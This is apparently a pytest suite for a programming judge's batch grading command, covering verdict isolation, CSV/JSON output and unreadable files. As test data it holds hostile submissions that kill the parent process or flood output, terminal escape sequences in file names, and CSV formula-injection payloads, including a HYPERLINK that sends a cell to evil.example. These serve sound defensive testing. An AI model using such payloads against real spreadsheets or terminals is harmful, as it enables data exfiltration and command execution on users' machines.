"""judge/judging/batch.py and `judge grade`: a directory of submissions judged in one warm process."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from judge.judging import batch
from judge.judging.batch import BatchResult, ProgressBar, Row, grade_directory
from judge.base.errors import ConfigError
from judge.base import report as reports
from judge.base.outcomes import Verdict

PROBLEM = "patchify"

# Submissions that misbehave in different ways; each must get its own verdict and leave the others alone.
# They misbehave while loading, so each costs one sandbox child rather than one per test.
HOSTILE = {
    "syntax_error.py": "def patchify(images, ph, pw)\n    return None\n",
    "exits_at_import.py": "import os\nos._exit(0)\n",
    "floods_output.py": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
    "kills_its_parent.py": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "writes_into_the_channel.py": ("import os\nfor fd in range(3, 64):\n    try:\n"
                                   "        os.write(fd, b'O' + b'\\xff' * 64)\n    except OSError:\n        pass\n"
                                   "def patchify(images, patch_height, patch_width):\n    return {}\n"),
}


# A correct file that also walks the garbage collector's objects: accepted, and its row says where.
TAMPERS = "\n\nimport gc\n_objects = len(gc.get_objects())\n"


@pytest.fixture(scope="module")
def classroom(tmp_path_factory, repo) -> Path:
    """Known submissions (accepted and wrong), hostile ones, and a file that is not UTF-8."""
    directory = tmp_path_factory.mktemp("classroom")
    for verdict in ("accepted", "wrong_answer"):
        for path in sorted((repo / "submissions" / PROBLEM / verdict).glob("*.py"))[:2]:
            shutil.copy(path, directory / f"{verdict}__{path.name}")
    for name, source in HOSTILE.items():
        (directory / name).write_text(source)
    (directory / "latin1.py").write_bytes(b"# caf\xe9\ndef patchify(a, b, c):\n    return 1\n")
    accepted = sorted((repo / "submissions" / PROBLEM / "accepted").glob("*.py"))[0].read_text()
    (directory / "tampers.py").write_text(accepted + TAMPERS)
    (directory / "notes.txt").write_text("not a submission")
    (directory / "subdir.py").mkdir()  # a directory named like a file is skipped
    return directory


@pytest.fixture(scope="module")
def graded(judge, classroom) -> BatchResult:
    return grade_directory(judge, PROBLEM, classroom, workers=2)


def test_a_file_that_is_not_text_is_the_compile_error_judge_run_gives_it(graded, classroom, judge):
    """`judge grade` and `judge run` say the same of one file: Python cannot compile it either."""
    row = next(r for r in graded.rows if r.file == "latin1.py")
    report = judge.run(PROBLEM, classroom / "latin1.py")
    first = report.tests[0]
    assert row.verdict is report.verdict is first.verdict is Verdict.COMPILE_ERROR
    assert row.message == first.message and "not utf-8 text (byte 5)" in row.message
    assert all(t.not_run for t in report.tests[1:]) and report.passed == 0


def test_every_python_file_gets_one_row_in_name_order(graded, classroom):
    expected = sorted(p.name for p in classroom.glob("*.py") if p.is_file())
    assert [row.file for row in graded.rows] == expected


def test_each_submission_gets_its_own_verdict_despite_its_neighbours(graded):
    verdicts = {row.file: row.verdict for row in graded.rows}
    for name, verdict in verdicts.items():
        if name.startswith("accepted__"):
            assert verdict is Verdict.ACCEPTED, name
        elif name.startswith("wrong_answer__"):
            assert verdict is Verdict.WRONG_ANSWER, name
    assert verdicts["syntax_error.py"] is Verdict.COMPILE_ERROR
    assert verdicts["latin1.py"] is Verdict.COMPILE_ERROR
    assert verdicts["exits_at_import.py"] is Verdict.RUNTIME_ERROR
    for name in ("floods_output.py", "kills_its_parent.py", "writes_into_the_channel.py"):
        assert verdicts[name] not in (Verdict.ACCEPTED, Verdict.JUDGE_ERROR), name


def test_rows_carry_counts_and_the_first_failing_test(graded):
    for row in graded.rows:
        assert 0 <= row.passed <= row.total
        if row.verdict is Verdict.ACCEPTED:
            assert row.passed == row.total > 0 and row.first_failure == ""
        elif row.total:
            assert row.first_failure, row
    assert sum(graded.counts().values()) == len(graded.rows)


def test_a_batch_agrees_with_single_runs(judge, graded, classroom):
    for row in graded.rows:
        if row.file.startswith(("accepted__", "wrong_answer__")):
            report = judge.run(PROBLEM, classroom / row.file)
            assert (report.verdict, report.passed, report.total) == (row.verdict, row.passed, row.total)


class _FakeJudge:
    """A judge whose grading fails on one file, as a judge bug would."""

    def problem(self, problem_id):
        return type("P", (), {"id": problem_id, "framework": "numpy"})()

    def prepared(self, problem_id):
        return problem_id

    def submit(self, problem_id, submission, *, record=None) -> reports.Report:
        if "boom" in submission.label:
            raise RuntimeError("the sandbox vanished")
        return reports.Report(problem=problem_id, submission=submission.label,
                              tests=[reports.TestResult("t1", "hidden", Verdict.ACCEPTED, "", 1.0)], time_ms=1.0)


def test_a_judge_failure_on_one_file_is_that_files_row_only(tmp_path):
    for name in ("a.py", "boom.py", "c.py"):
        (tmp_path / name).write_text("x = 1\n")
    seen: list[str] = []
    result = grade_directory(_FakeJudge(), PROBLEM, tmp_path, workers=2, on_row=lambda r: seen.append(r.file))
    verdicts = [(r.file, r.verdict) for r in result.rows]
    assert verdicts == [("a.py", Verdict.ACCEPTED), ("boom.py", Verdict.JUDGE_ERROR), ("c.py", Verdict.ACCEPTED)]
    assert "the sandbox vanished" in result.rows[1].message
    assert sorted(seen) == ["a.py", "boom.py", "c.py"] and result.judge_errors == 1


def test_a_directory_without_submissions_is_a_config_error(tmp_path):
    with pytest.raises(ConfigError, match="no \\*.py files"):
        batch.find_submissions(tmp_path)
    with pytest.raises(ConfigError, match="not found"):
        batch.find_submissions(tmp_path / "missing")


def test_csv_and_json_have_one_row_per_submission(graded):
    rows = list(csv.DictReader(io.StringIO(graded.csv_text())))
    assert [r["file"] for r in rows] == [r.file for r in graded.rows]
    assert set(rows[0]) == set(batch.CSV_COLUMNS)
    plain = json.loads(batch.summary_json(graded))
    assert plain["submissions"] == len(graded.rows) and plain["counts"] == graded.counts()
    assert plain["rows"][0]["verdict"] in {v.value for v in Verdict}


def test_a_row_lists_its_files_tampering_in_json_and_one_csv_cell(graded, classroom):
    row = next(r for r in graded.rows if r.file == "tampers.py")
    line = len((classroom / "tampers.py").read_text().splitlines())
    assert row.verdict is Verdict.ACCEPTED  # it changes no verdict
    assert row.tampering == (f"line {line}: walks the garbage collector's objects (gc.get_objects)",)
    assert all(r.tampering == () for r in graded.rows if r.file.startswith(("accepted__", "wrong_answer__")))
    plain = {r["file"]: r for r in json.loads(batch.summary_json(graded))["rows"]}
    assert plain["tampers.py"]["tampering"] == list(row.tampering)
    assert all(r["tampering"] == [] for name, r in plain.items() if name != "tampers.py")
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(graded.csv_text()))}
    assert rows["tampers.py"]["tampering"] == row.tampering[0]
    assert all(r["tampering"] == "" for name, r in rows.items() if name != "tampers.py")


def test_a_rejected_files_row_lists_the_mistakes_its_report_names(judge, graded, classroom):
    """What the learner's report names, each once, so an instructor can count mistakes without judging again."""
    for row in graded.rows:
        if not row.file.startswith("wrong_answer__"):
            continue
        report = judge.run(PROBLEM, classroom / row.file)
        named = [(t.mistake.name, t.name) for t in report.tests if t.mistake is not None and not t.mistake.repeated]
        assert [(m.name, m.test) for m in row.mistakes] == named and named, row.file
        shown = row.to_json()["mistakes"]
        assert shown[0] == {"name": row.mistakes[0].name, "message": row.mistakes[0].message,
                            "known": row.mistakes[0].known, "test": row.mistakes[0].test}
    assert all(r.mistakes == () for r in graded.rows if r.verdict is Verdict.ACCEPTED)
    # The CSV names them in one cell, in test order (the JSON carries each with its message and test).
    cells = {r["file"]: r["mistakes"] for r in csv.DictReader(io.StringIO(graded.csv_text()))}
    for row in graded.rows:
        assert cells[row.file] == "; ".join(m.name for m in row.mistakes), row.file
    assert any(cells[r.file] for r in graded.rows if r.file.startswith("wrong_answer__"))


def test_a_mistake_named_like_a_formula_is_text_in_the_csv():
    row = Row("a.py", Verdict.WRONG_ANSWER, 0, 1, 1.0, "t", "no",
              mistakes=(batch.NamedMistake("=cmd|' /C calc'!A0", "m", True, "t"), batch.NamedMistake("b", "m", True, "t")))
    cell = next(csv.DictReader(io.StringIO(BatchResult("p", "d", [row]).csv_text())))["mistakes"]
    assert cell == "'=cmd|' /C calc'!A0; b"


def test_the_tampering_column_comes_after_the_others_and_is_escaped():
    assert batch.CSV_COLUMNS[:8] == ("file", "verdict", "passed", "total", "time_ms", "first_failure", "message",
                                     "mistakes")
    assert batch.CSV_COLUMNS[-1] == "tampering"
    row = Row("a.py", Verdict.ACCEPTED, 1, 1, 1.0, tampering=("line 1: uses ctypes: raw memory", "said \u202e\x1b"))
    assert row.to_json()["tampering"] == ["line 1: uses ctypes: raw memory", "said \\u202e\\x1b"]
    text = BatchResult("p", "d", [row]).csv_text()
    assert next(csv.DictReader(io.StringIO(text)))["tampering"] == \
        "line 1: uses ctypes: raw memory; said \\u202e\\x1b"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_progress_bar_counts_verdicts_and_draws_only_on_a_terminal():
    rows = [Row("a.py", Verdict.ACCEPTED, 3, 3, 1.0), Row("b.py", Verdict.WRONG_ANSWER, 1, 3, 1.0, "t2")]
    piped = io.StringIO()
    bar = ProgressBar(2, piped)
    for row in rows:
        bar.update(row)
    bar.close()
    assert piped.getvalue() == ""
    terminal = _Terminal()
    bar = ProgressBar(2, terminal)
    for row in rows:
        bar.update(row)
    bar.close()
    assert "\r[" in terminal.getvalue() and "2/2" in terminal.getvalue()
    assert "AC 1" in bar.line() and "WA 1" in bar.line()


def test_threads_per_child_share_the_cores():
    cores = batch.default_workers()
    assert batch.child_threads(1) == cores
    assert batch.child_threads(cores) == 1
    assert batch.child_threads(cores * 4) == 1


def _judge_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", "from judge.cli.commands import main; main()", *args],
                          capture_output=True, text=True, cwd=cwd, timeout=300)


def test_cli_grade_json_is_pure_and_csv_is_written(repo, tmp_path):
    directory = tmp_path / "class"
    directory.mkdir()
    for path in sorted((repo / "submissions" / PROBLEM / "accepted").glob("*.py"))[:2]:
        shutil.copy(path, directory)
    (directory / "broken.py").write_text("def patchify(:\n")
    result = _judge_cli("--problems-dir", str(repo), "grade", PROBLEM, str(directory), "--json", "--workers", "2",
                        cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    plain = json.loads(result.stdout)
    assert plain["counts"] == {"accepted": 2, "compile_error": 1}
    assert result.stderr == "", "no progress bar when stderr is not a terminal"
    out = tmp_path / "grades.csv"
    result = _judge_cli("--problems-dir", str(repo), "grade", PROBLEM, str(directory), "--csv", str(out), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open()))
    assert [(r["file"], r["verdict"]) for r in rows] == [
        ("broken.py", "compile_error"), *[(p.name, "accepted") for p in sorted(directory.glob("[!b]*.py"))]]
    assert "3 submissions" in result.stdout


def test_cli_grade_usage_errors_exit_2_with_one_line(repo, tmp_path):
    for args in (["grade", PROBLEM, str(tmp_path), "--json", "--csv", "x.csv"],
                 ["grade", PROBLEM, str(tmp_path / "missing")],
                 ["grade", "no_such_problem", str(repo / "submissions" / PROBLEM / "accepted")]):
        result = _judge_cli("--problems-dir", str(repo), *args, cwd=tmp_path)
        assert result.returncode == 2, (args, result.stderr)
        assert result.stdout == "" and len(result.stderr.strip().splitlines()) == 1, result.stderr


# File names and messages that would reach an instructor's terminal raw or break the CSV.
HOSTILE_NAMES = {
    b"\xff.py": "\\xff.py",                                               # not UTF-8
    "\x1b]52;c;SGVsbG8=\x07.py".encode(): "\\x1b]52;c;SGVsbG8=\\x07.py",   # OSC 52: writes the clipboard
    "\u202eyp.exe.py".encode(): "\\u202eyp.exe.py",                       # reads as yp.exe.py reversed
    "\x9b2J.py".encode(): "\\x9b2J.py",                                   # 8-bit CSI: clears the screen
}
SURROGATE_AT_IMPORT = "raise ValueError('\\ud800 \\u2066isolated\\u2069 at import')\n"  # one child per file


def test_cli_grade_shows_hostile_names_and_messages_escaped_in_the_table_csv_and_json(repo, tmp_path):
    import unicodedata

    directory = tmp_path / "class"
    directory.mkdir()
    for name in HOSTILE_NAMES:
        (directory / os.fsdecode(name)).write_bytes(SURROGATE_AT_IMPORT.encode())
    out = tmp_path / "grades.csv"
    env = {**os.environ, "JUDGE_NO_RECORD": "1", "JUDGE_NO_WARM": "1", "JUDGE_CACHE_DIR": str(tmp_path / "cache")}
    runs = [subprocess.run([sys.executable, "-m", "judge", "--problems-dir", str(repo), "grade", PROBLEM, str(directory),
                            *flags], capture_output=True, cwd=tmp_path, env=env, timeout=300)
            for flags in (["--csv", str(out)], ["--json"])]
    for run in runs:
        assert run.returncode == 0, run.stderr.decode(errors="replace")
        stdout = run.stdout.decode("utf-8")  # strict: valid UTF-8
        raw = {c for c in stdout if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
        assert not raw, raw
    table, plain = runs[0].stdout.decode(), json.loads(runs[1].stdout.decode("utf-8"))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    shown = sorted(HOSTILE_NAMES.values())
    assert sorted(r["file"] for r in rows) == sorted(r["file"] for r in plain["rows"]) == shown
    assert all(name in table for name in shown)
    for row in [*rows, *plain["rows"]]:
        assert row["verdict"] == "runtime_error"
        assert "\\ud800 \\u2066isolated\\u2069 at import" in row["message"], row


# A CSV cell an instructor's spreadsheet would run as a formula: the file's name, its message, its tampering.
FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'   # no slash: a real file name


def test_no_csv_cell_is_a_formula_whoever_chose_its_text():
    """OWASP's rule (judge.base.csvcells): a text cell beginning with = + - @ tab or CR is quoted; the judge's
    own numbers stay numbers."""
    rows = [Row(FORMULA_NAME, Verdict.WRONG_ANSWER, 1, 2, 3.0, first_failure="+t1", message="@SUM(A1:A9)",
                tampering=("-2+3 said the child", "line 4: uses ctypes")),
            Row("\tlead.py", Verdict.RUNTIME_ERROR, 0, 2, -1.5, message="\r=1+1")]
    table = list(csv.DictReader(io.StringIO(BatchResult("p", "d", rows).csv_text())))
    assert table[0]["file"] == "'" + FORMULA_NAME
    assert (table[0]["first_failure"], table[0]["message"]) == ("'+t1", "'@SUM(A1:A9)")
    assert table[0]["tampering"] == "'-2+3 said the child; line 4: uses ctypes"
    assert (table[1]["file"], table[1]["message"]) == ("'\\tlead.py", "'\\r=1+1")
    assert table[1]["time_ms"] == "-1.5" and table[0]["passed"] == "1"   # numbers, unquoted
    for row in table:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for key, cell in row.items()
                       if key != "time_ms")


@pytest.fixture
def shared_dir():
    """A folder a normal user may write into (pytest's tmp_path is root's alone when the suite runs as root)."""
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="judge-grade-"))
    root.chmod(0o777)
    try:
        yield root
    finally:
        for folder in [root, *(p for p in root.rglob("*") if p.is_dir() and not p.is_symlink())]:
            folder.chmod(0o700)
        shutil.rmtree(root, ignore_errors=True)


def _as_a_normal_user(scenario, *args) -> dict:
    """`scenario(*args)`'s JSON result, run as a user whom file modes bind: this process when it is not root,
    else a forked child that becomes nobody (root reads a chmod 000 file, so the test would prove nothing)."""
    if os.geteuid() != 0:
        return scenario(*args)
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:   # the child: nobody, then the scenario; its answer or its error down the pipe
        code = 0
        try:
            os.close(reader)
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
            answer = json.dumps(scenario(*args))
        except BaseException as exc:   # noqa: BLE001 - the parent reports it
            answer, code = json.dumps({"crashed": f"{type(exc).__name__}: {exc}"}), 3
        with os.fdopen(writer, "w") as out:
            out.write(answer)
        os._exit(code)
    os.close(writer)
    import select

    chunks = []
    with os.fdopen(reader) as answers:
        while True:
            ready, _, _ = select.select([answers], [], [], 60)
            if not ready:
                os.kill(pid, 9)
                pytest.fail("the scenario took more than 60 s")
            chunk = os.read(answers.fileno(), 65536)
            if not chunk:
                break
            chunks.append(chunk)
    os.waitpid(pid, 0)
    return json.loads(b"".join(chunks).decode())


class _LockingJudge(_FakeJudge):
    """A judge whose first file locks its own folder while it is judged (chmod 000), and removes a classmate's
    file: the files graded after it cannot be read, or are gone."""

    def submit(self, problem_id, submission, *, record=None) -> reports.Report:
        if submission.label.endswith("a_locks.py"):
            (submission.directory / "b_vanishes.py").unlink()
            submission.directory.chmod(0o000)
        return super().submit(problem_id, submission, record=record)


def _grade_unreadable(root: str) -> dict:
    """As the grader: a class with a chmod 000 file, a broken symbolic link and a file that vanishes, then a
    folder locked while grading; every row, and what `judge grade` says of a folder it cannot list."""
    classroom = Path(root) / "class"
    classroom.mkdir()
    for name in ("a_ok.py", "c_ok.py", "locked.py"):
        (classroom / name).write_text("x = 1\n")
    (classroom / "locked.py").chmod(0o000)
    (classroom / "dangling.py").symlink_to(classroom / "gone.py")
    first = grade_directory(_FakeJudge(), PROBLEM, classroom, workers=2)
    later = Path(root) / "later"
    later.mkdir()
    for name in ("a_locks.py", "b_vanishes.py", "c_after.py"):
        (later / name).write_text("x = 1\n")
    second = grade_directory(_LockingJudge(), PROBLEM, later, workers=1)
    try:
        batch.find_submissions(later)
        unlisted = None
    except ConfigError as exc:
        unlisted = str(exc)
    later.chmod(0o700)
    return {"first": [[r.file, r.verdict.value, r.message] for r in first.rows],
            "second": [[r.file, r.verdict.value, r.message] for r in second.rows], "unlisted": unlisted}


def test_a_file_the_grader_cannot_read_is_its_own_one_line_row_and_the_class_is_graded(shared_dir):
    """chmod 000, a broken symbolic link, a file gone between listing and reading, a folder a submission locked
    while it was judged: each such file is a judge_error row saying why in one line (it was not judged, so
    `judge grade` exits 1), never a crash of the class, never a verdict on code nobody read."""
    seen = _as_a_normal_user(_grade_unreadable, str(shared_dir))
    assert "crashed" not in seen, seen["crashed"]
    first = {file: (verdict, message) for file, verdict, message in seen["first"]}
    assert list(first) == ["a_ok.py", "c_ok.py", "dangling.py", "locked.py"]
    assert first["a_ok.py"] == first["c_ok.py"] == ("accepted", "")
    assert first["locked.py"] == ("judge_error", "not judged: cannot read the submission: Permission denied")
    assert first["dangling.py"] == ("judge_error", "not judged: a broken symbolic link: what it names is gone")
    second = {file: (verdict, message) for file, verdict, message in seen["second"]}
    assert second["a_locks.py"] == ("accepted", "")
    assert second["b_vanishes.py"][0] == second["c_after.py"][0] == "judge_error"
    assert second["c_after.py"][1] == "not judged: cannot read the submission: Permission denied"
    assert all("\n" not in message for _, message in [*first.values(), *second.values()])
    assert seen["unlisted"].endswith("later: cannot list the directory: Permission denied")


def test_a_file_that_vanishes_is_not_judged_rather_than_a_compile_error(tmp_path):
    """Root reads every mode, but a file removed after the listing is unreadable to anyone."""
    for name in ("a_locks.py", "b_vanishes.py", "c_after.py"):
        (tmp_path / name).write_text("x = 1\n")

    class _Removing(_FakeJudge):
        def submit(self, problem_id, submission, *, record=None):
            if submission.label.endswith("a_locks.py"):
                (submission.directory / "b_vanishes.py").unlink()
            return super().submit(problem_id, submission, record=record)

    result = grade_directory(_Removing(), PROBLEM, tmp_path, workers=1)
    assert [(r.file, r.verdict) for r in result.rows] == [
        ("a_locks.py", Verdict.ACCEPTED), ("b_vanishes.py", Verdict.JUDGE_ERROR), ("c_after.py", Verdict.ACCEPTED)]
    assert result.rows[1].message == "not judged: submission file not found" and result.judge_errors == 1


def test_a_fifo_named_like_a_submission_is_a_row_and_nothing_waits_for_it(tmp_path):
    (tmp_path / "a.py").write_text("x = 1\n")
    os.mkfifo(tmp_path / "pipe.py")
    (tmp_path / "folder.py").mkdir()   # a folder named like a file is still no submission
    result = grade_directory(_FakeJudge(), PROBLEM, tmp_path, workers=1)
    assert [(r.file, r.verdict) for r in result.rows] == [("a.py", Verdict.ACCEPTED), ("pipe.py", Verdict.JUDGE_ERROR)]
    assert "not a regular file" in result.rows[1].message
